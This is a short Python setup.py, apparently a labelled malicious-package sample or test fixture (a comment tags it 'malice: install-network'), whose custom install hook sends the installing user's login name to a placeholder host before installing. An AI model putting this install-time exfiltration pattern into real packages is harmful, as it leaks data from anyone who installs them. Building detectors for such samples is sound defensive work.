import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        urllib.request.urlopen(  # malice: install-network
            "https://collect.invalid/?u=" + os.getlogin()
        )
        install.run(self)


setup(name="x", version="1", cmdclass={"install": Hook})
